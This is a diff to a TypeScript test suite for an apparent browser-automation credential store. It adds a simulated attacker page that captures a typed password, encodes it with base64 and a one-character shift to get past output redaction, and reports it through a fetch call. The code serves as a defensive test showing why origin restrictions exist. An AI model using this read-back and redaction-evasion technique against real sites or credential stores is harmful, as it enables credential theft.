@@ -50,7 +50,7 @@ const bankSite = () =>
   });
 
 /**
- * The attacker's site: /steal writes btoa() of whatever is typed into its field where an extract
+ * The attacker's site: /steal writes btoa() (data-x) and each character shifted by one (data-y) of whatever is typed into its field where an extract
  * step can read it, and reports each value to the site; /frame holds the bank's login in a frame.
  */
 const evilSite = (bank: Site) =>
@@ -69,6 +69,8 @@ const evilSite = (bank: Site) =>
         const pw = document.getElementById('pw');
         pw.addEventListener('input', () => {
           document.getElementById('out').setAttribute('data-x', btoa(pw.value));
+          const shifted = [...pw.value].map((c) => String.fromCharCode(c.charCodeAt(0) + 1)).join('');
+          document.getElementById('out').setAttribute('data-y', shifted);
           fetch('/seen?v=' + encodeURIComponent(pw.value));
         });
       </script>`;
@@ -137,14 +139,31 @@ const readBack = (name: string) => [
 ];
 
 describe('a credential kept to its origins', () => {
-  it('without origins, the read-back attack works: redaction does not catch btoa(value)', async () => {
+  it('without origins, the read-back attack works: redaction catches btoa(value), not every transform', async () => {
     // Why allowed_origins exists (SECURITY.md): a page that receives a secret can hand it back transformed.
     const name = uniq('anywhere');
     const value = secretValue();
     await store(name, value, []);
-    const status = await run(readBack(name), evil, '/steal');
-    expect(status.message).toBe('All 3 steps succeeded');
-    expect(Buffer.from(status.outputs.stolen!, 'base64').toString()).toBe(`x-${value}-y`);
+    const status = await run(
+      [
+        ...readBack(name),
+        {
+          type: 'customStep',
+          name: 'extract',
+          parameters: { selectors: [['#out']], as: 'shifted', attribute: 'data-y' },
+        },
+      ],
+      evil,
+      '/steal',
+    );
+    expect(status.message).toBe('All 4 steps succeeded');
+    // Base64 is one of the forms redaction knows (issue 44): what is left of it holds no run of the value.
+    expect(status.outputs.stolen).toContain(`[credentials.${name}]`);
+    expect(
+      Buffer.from(status.outputs.stolen!.replace(/\[credentials\.[^\]]*\]/g, ''), 'base64').toString(),
+    ).not.toContain(value.slice(0, 6));
+    const unshifted = [...status.outputs.shifted!].map((c) => String.fromCharCode(c.charCodeAt(0) - 1)).join('');
+    expect(unshifted).toBe(`x-${value}-y`);
     // The page's report of it is a request of its own, which may reach the site after the run's status.
     await waitForAsync('the page to report the value', () =>
       evil.received.includes(`x-${value}-y`) ? true : undefined,
